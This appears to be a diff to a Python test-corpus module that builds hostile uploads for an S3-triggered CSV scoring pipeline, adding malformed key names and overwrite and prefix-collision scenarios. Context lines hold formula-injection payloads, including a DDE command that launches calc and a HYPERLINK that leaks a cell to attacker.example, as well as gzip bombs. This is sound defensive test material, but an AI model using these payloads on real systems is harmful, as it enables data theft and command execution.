@@ -17,12 +17,20 @@ value inside its own cell, which is the part the data path must get right.
 
 Blank lines are not rows: a trailing empty line (common in exported or hand-edited files) or an
 empty line between rows is skipped, not counted as a ragged row.
+
+Hostile names count as much as hostile bytes: a line break in a key (it must not break an alert's
+subject or forge a line of its message), a 1,000-byte key (its outputs' keys would pass S3's limit:
+rejected with a report under a shortened name), an upper-case extension (scored like .csv). Some
+hostility takes more than one upload: `hostile_scenarios()` are sequences of uploads whose events are
+handled after the last one: a file overwritten before its first event, and a file named after
+another's ETag, whose outputs lie under that other file's prefix.
 """
 
 from __future__ import annotations
 
 import csv
 import gzip
+import hashlib
 import io
 import struct
 import zipfile
@@ -36,6 +44,7 @@ SCORED = "scored"
 REJECTED = "rejected"
 
 BOMB_EXPANDED_BYTES = 1 << 30  # what each gzip bomb decompresses to
+LONG_KEY_BYTES = 1000  # incoming/ and the name: S3 takes the key, but not the keys of its outputs
 FORMULA_IDS = (
     "=cmd|' /C calc'!A0",
     '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
@@ -64,6 +73,17 @@ class CorpusFile:
     def __post_init__(self) -> None:
         if (self.verdict == REJECTED) != (self.kind is not None):
             raise ValueError(f"{self.name}: a rejected file needs a kind, a scored one none")
+
+
+@dataclass(frozen=True)
+class CorpusScenario:
+    """Uploads (name under incoming/, body) whose S3 events are handled only after the last upload, in
+    upload order: every upload's content must end scored, under its own name and ETag, none losing another's
+    outputs (in a versioned data bucket; without versioning an overwritten content ends superseded)."""
+
+    name: str
+    uploads: tuple[tuple[str, bytes], ...]
+    note: str = ""
 
 
 # ---------------------------------------------------------------------------- building blocks
@@ -412,6 +432,21 @@ def hostile_corpus() -> tuple[CorpusFile, ...]:
             "line_too_long",
             note="1 GiB of '0' after the header, about 1 MB compressed: one line, stopped at 8 MiB",
         ),
+        # ---- hostile names
+        CorpusFile(
+            "new\nline.csv",
+            good_text.encode(),
+            SCORED,
+            note="a line break in the key: alerts escape it, their subjects drop it",
+        ),
+        CorpusFile(
+            "long-key-" + "k" * (LONG_KEY_BYTES - len("incoming/long-key-.csv")) + ".csv",
+            good_text.encode(),
+            REJECTED,
+            "key_too_long",
+            note="a 1,000-byte key: its outputs' keys would pass S3's 1,024 bytes; the report has a shortened name",
+        ),
+        CorpusFile("UPPER.CSV", good_text.encode(), SCORED, note="an upper-case extension (Windows exports)"),
         CorpusFile(
             "newline_bomb.csv.gz",
             _gzip_stream((",".join(header) + "\n").encode(), b"\n", BOMB_EXPANDED_BYTES),
@@ -424,3 +459,23 @@ def hostile_corpus() -> tuple[CorpusFile, ...]:
     if len(set(names)) != len(names):
         raise ValueError("corpus file names must be unique")
     return tuple(files)
+
+
+@cache
+def hostile_scenarios() -> tuple[CorpusScenario, ...]:
+    """Sequences of uploads (see CorpusScenario), built deterministically."""
+    first, second = generate(40, seed=31, with_label=False), generate(70, seed=32, with_label=False)
+    collided = generate(50, seed=33, with_label=False)
+    etag = hashlib.md5(collided).hexdigest()  # a single-part upload's ETag: the MD5 of its bytes
+    return (
+        CorpusScenario(
+            "overwritten",
+            (("overwritten.csv", first), ("overwritten.csv", second)),
+            note="written again before its first event was handled (no champion yet, or in the DLQ)",
+        ),
+        CorpusScenario(
+            "prefix_collision",
+            ((f"collided/{etag}-other.csv", generate(60, seed=34, with_label=False)), ("collided.csv", collided)),
+            note="predictions/collided/<etag>-other/... lies under collided.csv's predictions/collided/<etag>-",
+        ),
+    )
